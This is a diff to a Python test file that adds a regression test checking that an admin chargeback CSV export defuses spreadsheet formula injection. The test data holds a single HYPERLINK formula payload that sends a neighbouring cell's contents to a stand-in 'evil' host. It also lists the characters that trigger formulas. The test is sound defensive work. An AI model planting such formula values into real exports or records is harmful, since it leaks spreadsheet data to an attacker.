@@ -10,6 +10,10 @@ import threading
 import time
 
 import pytest
+from sqlalchemy import create_engine
+from sqlalchemy.orm import Session
+
+from hub_service.db import Usage, utcnow
 
 ECHO_NEW = {
     "name": "echo-new",
@@ -362,6 +366,20 @@ def test_chargeback_by_user_group_profile_and_model(stack, admin):
     assert total == pytest.approx(sum(r["cost_usd"] for r in by_user["rows"]), rel=1e-6)
     r = stack.api("GET", "admin/chargeback?by=planet", admin.token)
     assert r.status_code == 400 and "by must be one of" in r.json()["message"]
+
+
+def test_chargeback_csv_cells_cannot_run_as_formulas(stack, admin):
+    evil = '=HYPERLINK("https://evil/?"&A2,"x")'
+    with Session(create_engine(stack.db_url)) as session, session.begin():
+        session.add(Usage(ts=utcnow(), user=evil, model="smollm2-135m", status_code=200))
+    r = stack.api("GET", "admin/chargeback?by=user&format=csv", admin.token)
+    assert r.status_code == 200
+    users = [row["user"] for row in csv.DictReader(io.StringIO(r.text))]
+    assert "'" + evil in users
+    assert not [u for u in users if u.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # the JSON answer keeps the value as it is
+    rows = stack.api("GET", "admin/chargeback?by=user", admin.token).json()["rows"]
+    assert evil in [row["user"] for row in rows]
 
 
 def test_the_spawn_form_offers_the_profiles_and_the_key_carries_the_choice(stack):
